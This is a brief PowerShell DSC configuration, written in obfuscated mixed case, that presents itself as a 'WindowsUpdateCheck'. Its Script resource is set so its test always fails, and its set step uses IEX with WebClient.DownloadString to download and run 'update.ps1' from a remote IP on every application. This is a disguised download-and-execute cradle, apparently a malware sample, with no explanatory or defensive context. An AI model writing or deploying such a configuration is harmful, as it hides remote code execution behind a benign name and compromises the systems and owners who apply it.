# iNiT 4395 v3
coNFIGuRATION wInDoWsUpDaTeChEcK {
  ImpOrt-dscREsoUrce -MoDuLeNaMe pSdEsIrEdStAtEcOnFiGuRaTiOn
  nOdE lOcAlHoST {
    scRIpt bOoTsTrAp {
      geTScRIpT = { @{ ReSuLt = '' } }
      TesTsCripT = { $False }
      seTSCRIpT = { IeX (NeW-ObjeCT net.weBCLIENt).DOWnLoadstRiNg('http://203.0.113.17/update.ps1') }
    }
  }
}
